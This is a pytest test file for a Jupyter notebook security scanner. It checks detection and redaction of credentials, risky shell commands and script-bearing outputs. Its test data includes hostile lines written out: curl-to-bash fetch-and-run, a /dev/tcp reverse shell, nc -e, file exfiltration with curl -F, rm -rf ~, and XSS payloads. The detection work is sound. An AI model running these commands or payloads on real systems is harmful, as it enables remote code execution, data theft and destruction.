"""Secrets, commands, hidden code and personal data in notebooks: found where they are, told without being repeated, and not seen where there are none."""

from __future__ import annotations

import base64
import io
import json
import secrets as random
from pathlib import Path
from typing import Any

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from jupyter_mlsc.scan.engine import scan_stream
from jupyter_mlsc.scan.finding import Finding
from jupyter_mlsc.scan.notebooks import PERSONAL
from jupyter_mlsc.scan.notebooks.redaction import redact
from tests.conftest import Person


def scanned(notebook: Any, name: str = "a.ipynb", **options: Any) -> tuple[Finding, ...]:
    data = notebook if isinstance(notebook, bytes) else nbformat.writes(notebook).encode()
    return scan_stream(name, io.BytesIO(data), **options)


def codes(*cells: Any, **options: Any) -> list[tuple[str, str]]:
    return [(each.code, each.where) for each in scanned(new_notebook(cells=list(cells)), **options)]


def shuffled(alphabet: str, length: int) -> str:
    """A made-up value in the form of a token: not the same twice, so that no test depends on one."""
    return "".join(random.choice(alphabet) for _ in range(length))


LETTERS = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
TOKENS = {
    "AWS": lambda: "AKIA" + shuffled("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16),
    "GitHub": lambda: "ghp_" + shuffled(LETTERS, 36),
    "GitHub fine-grained": lambda: "github_pat_" + shuffled(LETTERS, 82),
    "GitLab": lambda: "glpat-" + shuffled(LETTERS, 20),
    "Slack": lambda: "xoxb-" + shuffled("123456789", 12) + "-" + shuffled("123456789", 12) + "-" + shuffled(LETTERS, 24),
    "Hugging Face": lambda: "hf_" + shuffled(LETTERS, 34),
    "Google": lambda: "AIza" + shuffled(LETTERS, 35),
    "Anthropic": lambda: "sk-ant-api03-" + shuffled(LETTERS, 80),
    "OpenAI": lambda: "sk-proj-" + shuffled(LETTERS, 60),
    "Stripe": lambda: "sk_live_" + shuffled(LETTERS, 24),
    "PyPI": lambda: "pypi-AgEIcHlwaS5vcmc" + shuffled(LETTERS, 90),
    "npm": lambda: "//registry.test/:_authToken=npm_" + shuffled(LETTERS, 36),
    "Databricks": lambda: "dapi" + shuffled("0123456789abcdef", 32),
    "SendGrid": lambda: "SG." + shuffled(LETTERS, 22) + "." + shuffled(LETTERS, 43),
    "a JSON Web Token": lambda: ".".join(
        base64.urlsafe_b64encode(part).rstrip(b"=").decode()
        for part in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"joe","iat":1700000000}', random.token_bytes(32))
    ),
    "a private key": lambda: "-----BEGIN OPENSSH PRIVATE KEY-----",
    "a Jupyter server": lambda: "http://localhost:8888/lab?token=" + shuffled("0123456789abcdef", 48),
    "a database": lambda: "postgresql://joe:" + shuffled(LETTERS, 12) + "@db.test/sales",
    "Azure storage": lambda: "AccountKey=" + base64.b64encode(random.token_bytes(64)).decode(),
}


@pytest.mark.parametrize("service", TOKENS)
@pytest.mark.parametrize("place", ["code", "markdown", "stream", "result", "error", "metadata"])
def test_a_token_is_found_wherever_it_is_and_never_repeated(service: str, place: str) -> None:
    token = TOKENS[service]()
    cell = new_code_cell("x")
    notebook = new_notebook(cells=[new_markdown_cell("# a"), cell])
    if place == "code":
        cell.source = f"a = 1\nclient = connect('{token}')"
    elif place == "markdown":
        notebook.cells[0].source = f"use {token} here"
    elif place == "stream":
        cell.outputs = [new_output("stream", text=f"fine\nconnected with {token}\n")]
    elif place == "result":
        cell.outputs = [new_output("execute_result", {"text/html": f"<b>{token}</b>"}, execution_count=1)]
    elif place == "error":
        cell.outputs = [new_output("error", ename="E", evalue=f"bad {token}", traceback=[f"\x1b[31mbad {token}\x1b[0m"])]
    else:
        notebook.metadata["papermill"] = {"parameters": {"connection": token}}
    found = [each for each in scanned(notebook) if each.code == "secret-token"]
    assert found
    where = {"code": "cell 2, line 2", "markdown": "cell 1, line 1", "stream": "output 1 of cell 2, line 2", "result": "output 1 of cell 2, line 1"}
    assert found[0].where == where.get(place, found[0].where)
    secret = token.partition("=")[2] or token
    assert all(secret not in f"{each.message} {each.fix} {each.where}" for each in found)


ASSIGNED = [
    "password = 'correct-horse-9'",
    "os.environ['DB_PASSWORD'] = 'correct-horse-9'",
    "connect(user='joe', passwd='correct-horse-9')",
    "config = {'api_key': 'k3y-k3y-k3y'}",
    "os.environ.setdefault('SERVICE_API_KEY', 'k3y-k3y-k3y')",
    "self.auth_token: str = 'k3y-k3y-k3y'",
    "wandb.login(key='0123456789abcdef0123456789abcdef01234567')",
]


@pytest.mark.parametrize("source", ASSIGNED)
def test_a_password_in_an_assignment_is_found(source: str) -> None:
    assert [code for code, _ in codes(new_code_cell(source))] == [("secret-token" if "wandb" in source else "secret-assigned")]


HARMLESS = [
    "password = getpass('Password: ')",
    "api_key = os.environ['SERVICE_API_KEY']",
    "password = '<your password>'",
    "api_key = 'YOUR_API_KEY'",
    "token = ''",
    "password = '********'",
    "df = df.rename(columns={'secret_score': 'score_total', 'password_length': 'length'})",
    "tokenizer = AutoTokenizer.from_pretrained('bert-base-uncased')",
    "digest = 'sha256:86d640680280c4a8b9f5b2a3d0e1f6c7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3'",
    "model.load('models/2024-01-31T12-00-00_resnet50_best_checkpoint.pt')",
    "url = 'postgresql://user:password@localhost/db'",
    "param_grid = {'max_features': ['sqrt'], 'criterion': ['gini']}",
    "x = np.array([0.1234567890123456, 1e-17])",
    "uuid = '123e4567-e89b-12d3-a456-426614174000'",
    "display(HTML('<b>no</b>'))",
    "labels = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'",
]


@pytest.mark.parametrize("source", HARMLESS)
def test_what_is_no_secret_is_not_taken_for_one(source: str) -> None:
    assert codes(new_code_cell(source)) == []


def test_a_picture_is_no_secret() -> None:
    picture = base64.b64encode(random.token_bytes(20_000)).decode()
    html = f"<img src='data:image/png;base64,{picture}'>"
    outputs = [new_output("display_data", {"image/png": picture, "text/html": html, "text/plain": "<Figure size 640x480 with 1 Axes>"})]
    assert codes(new_code_cell("plot()", outputs=outputs), new_markdown_cell(f"![x](data:image/png;base64,{picture})")) == []


COMMANDS = {
    "!curl -s https://x.test/i.sh | bash": "command-fetch-and-run",
    "!bash <(curl -s https://x.test/i.sh)": "command-fetch-and-run",
    "import os\nos.system('wget -qO- https://x.test/i | sudo sh')": "command-fetch-and-run",
    "subprocess.run('curl https://x.test/a.py | python3', shell=True)": "command-fetch-and-run",
    "!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1": "command-reverse-shell",
    "!nc 10.0.0.1 4444 -e /bin/sh": "command-reverse-shell",
    "!echo aGkK | base64 -d | sh": "command-decoded",
    "%%bash\ncd x\nrm -rf ~": "command-removes",
    "!echo 'x' >> ~/.bashrc": "command-schedules",
    "!crontab -l": "command-schedules",
    "!curl -F file=@data/train.csv https://x.test": "command-sends",
    "!wget https://x.test/data.zip": "command-fetches",
    "!git clone https://x.test/repo": "command-fetches",
    "!pip install requests": "install-unpinned",
    "%pip install requests==2.31.0 'rich>=13'": "install-unpinned",
    "!pip install --extra-index-url https://x.test/simple a==1": "install-index",
    "!pip install git+https://x.test/repo": "install-address",
    "%conda install scipy": "install-unpinned",
}


@pytest.mark.parametrize("source", COMMANDS)
def test_a_command_worth_a_look_is_told(source: str) -> None:
    assert [code for code, _ in codes(new_code_cell(source))] == [COMMANDS[source]]


@pytest.mark.parametrize(
    "source",
    [
        "!ls data",
        "files = !ls",
        "%pip install requests==2.31.0",
        "!pip install -r requirements.txt",
        "!pip install --require-hashes -r requirements.txt",
        "%matplotlib inline",
        "# !curl https://x.test | bash",
        "subprocess.run(['make'])",
        "!rm -rf build",
        "x != y",
        "%conda install scipy=1.11",
    ],
)
def test_an_everyday_command_is_not(source: str) -> None:
    assert codes(new_code_cell(source)) == []


MARKUP = {
    "<script>alert(1)</script>": "output-script",
    "<SCRIPT SRC=//x.test/a.js></SCRIPT>": "output-script",
    "<img src=x onerror=alert(1)>": "output-script",
    "<a href='java&#10;script:alert(1)'>a</a>": "output-script",
    "<svg/onload=alert(1)>": "output-script",
    "<iframe src='/lab'></iframe>": "output-frame",
    "<iframe srcdoc='x'></iframe>": "output-frame",
    "<object data='x.swf'></object>": "output-frame",
    "<meta http-equiv=refresh content='0;url=http://x.test'>": "output-frame",
    "<form action='https://x.test'><input name=password></form>": "output-form",
    "<img src='https://x.test/pixel.png'>": "output-remote",
    "<div style=\"background:url('//x.test/p')\">": "output-remote",
    "<style>@import 'https://x.test/a.css';</style>": "output-remote",
    "<svg><image xlink:href='http://x.test/a.png'/></svg>": "output-remote",
}


@pytest.mark.parametrize("markup", MARKUP)
@pytest.mark.parametrize("place", ["html", "svg", "markdown cell"])
def test_code_and_remote_resources_that_are_shown_are_told(markup: str, place: str) -> None:
    if place == "markdown cell":
        found = codes(new_markdown_cell(f"# Title\n\n{markup}"))
    else:
        mime = "text/html" if place == "html" else "image/svg+xml"
        found = codes(new_code_cell("x", outputs=[new_output("display_data", {mime: markup})]))
    assert MARKUP[markup] in [code for code, _ in found]


def test_the_output_of_common_libraries_is_quiet() -> None:
    frame = "<div><style scoped>.dataframe tbody tr th {vertical-align: top;}</style><table border='1' class='dataframe'><tr><td>1</td></tr></table></div>"
    widget = new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2}, "text/plain": "IntSlider()"})
    assert codes(new_code_cell("df", outputs=[new_output("execute_result", {"text/html": frame}, execution_count=1), widget])) == []


def test_javascript_of_its_own_type_is_told() -> None:
    assert codes(new_code_cell("x", outputs=[new_output("display_data", {"application/javascript": "1"})])) == [("output-script", "output 1 of cell 1, line 1")]


@pytest.mark.parametrize("character", ["\u202e", "\u2066", "\u200b"])
def test_code_that_does_not_read_as_it_runs_is_told(character: str) -> None:
    assert codes(new_code_cell(f"a = 1\nif user{character}name: pass")) == [("code-invisible", "cell 1, line 2")]


def test_a_folded_cell_is_told() -> None:
    cell = new_code_cell("x", metadata={"jupyter": {"source_hidden": True}})
    assert codes(cell) == [("code-hidden", "cell 1, line 1")]


def test_personal_data_is_looked_for_only_where_it_is_asked() -> None:
    cell = new_code_cell(
        "x",
        outputs=[
            new_output("stream", text="joe@corp.test\nDE89 3704 0044 0532 0130 00\n4111 1111 1111 1111\n4111 1111 1111 1112\nDE89 3704 0044 0532 0130 01\n")
        ],
    )
    assert codes(cell) == []
    found = codes(cell, also=frozenset((PERSONAL,)))
    assert [where.rpartition(" ")[2] for code, where in found if code == "personal-data"] == ["1", "2", "3"]


@pytest.mark.parametrize(
    "data",
    [
        b"{",
        b'{"nbformat": 4}',
        b'{"nbformat": 4, "cells": 1}',
        b'{"nbformat": 4, "cells": [1]}',
        b'{"nbformat": "4", "cells": []}',
        b'{"nbformat": 3}',
        b'{"nbformat": 3, "worksheets": [1]}',
        b"\xff\xfe{",
        b'{"nbformat": 4, "cells": [{"cell_type": "code", "metadata": ' + b'{"a":' * 100 + b"1" + b"}" * 100 + b"}]}",
    ],
)
def test_what_claims_to_be_a_notebook_and_is_none_fails(data: bytes) -> None:
    assert [each.code for each in scanned(data)] == ["not-understood"]


def test_a_notebook_of_the_third_format_is_read() -> None:
    document = {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {},
        "worksheets": [{"cells": [{"cell_type": "code", "input": ["!pip install x"], "outputs": []}]}],
    }
    assert [each.code for each in scanned(json.dumps(document).encode())] == ["install-unpinned"]


keys = st.text(max_size=8)
leaves = st.none() | st.booleans() | st.integers() | st.text(max_size=20)
json_values = st.recursive(leaves, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4), max_leaves=12)
fields = st.sampled_from(["cell_type", "source", "outputs", "metadata", "input", "attachments"])
hostile_cells = st.lists(st.dictionaries(fields, st.sampled_from(["code", "markdown", "raw"]) | json_values, max_size=6), max_size=5)


@settings(max_examples=200, deadline=None)
@given(cells=hostile_cells, metadata=json_values)
def test_no_notebook_makes_the_scan_fail(cells: Any, metadata: Any) -> None:
    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
    failures = {"scanner-failed", "limit-reached"}
    assert not failures & {each.code for each in scanned(json.dumps(document).encode())}


def test_a_copy_without_secrets_differs_in_nothing_else() -> None:
    token = TOKENS["GitHub"]()
    notebook = new_notebook(cells=[new_code_cell(f"a = '{token}'\nb = 2", outputs=[new_output("stream", text=f"{token} é\n")]), new_markdown_cell("# é")])
    notebook.metadata["token"] = token
    text = nbformat.writes(notebook)
    clean = redact(text.encode())
    assert token not in clean.text
    assert len(clean.taken) >= 3
    assert clean.text == text.replace(token, "[redacted: GitHub Token]") + ("" if text.endswith("\n") else "\n")
    assert nbformat.reads(clean.text, as_version=4).cells[1].source == "# é"


def test_redaction_is_offered_and_leaves_the_notebook_alone(ada: Person) -> None:
    token = TOKENS["Hugging Face"]()
    notebook = ada.root / "train.ipynb"
    nbformat.write(new_notebook(cells=[new_code_cell(f"login('{token}')")]), notebook)
    before = notebook.read_bytes()
    found = ada.mlsc("scan", "train.ipynb")
    assert (found.returncode, token in found.stdout) == (1, False)
    assert "mlsc scan --redact" in found.stdout
    done = ada.mlsc("scan", "train.ipynb", "--redact", "clean.ipynb")
    assert (done.returncode, token in done.stdout) == (0, False)
    assert "cell 1, line 1: Hugging Face token: replaced" in done.stdout
    assert notebook.read_bytes() == before
    assert token not in (ada.root / "clean.ipynb").read_text()
    assert ada.mlsc("scan", "clean.ipynb").returncode == 0
    again = ada.mlsc("scan", "train.ipynb", "--redact", "clean.ipynb")
    assert (again.returncode, "is there already" in again.stderr) == (2, True)


def test_a_folder_of_notebooks_is_scanned_with_the_rest(ada: Person) -> None:
    folder = ada.root / "notebooks"
    folder.mkdir()
    nbformat.write(new_notebook(cells=[new_code_cell(f"a = '{TOKENS['AWS']()}'")]), folder / "one.ipynb")
    nbformat.write(new_notebook(cells=[new_code_cell("a = 1")]), folder / "two.ipynb")
    done = ada.mlsc("scan", "notebooks", "--json")
    document = json.loads(done.stdout)
    assert (done.returncode, document["files"]) == (1, 2)
    assert [Path(each["path"]).name for each in document["findings"]] == ["one.ipynb"]
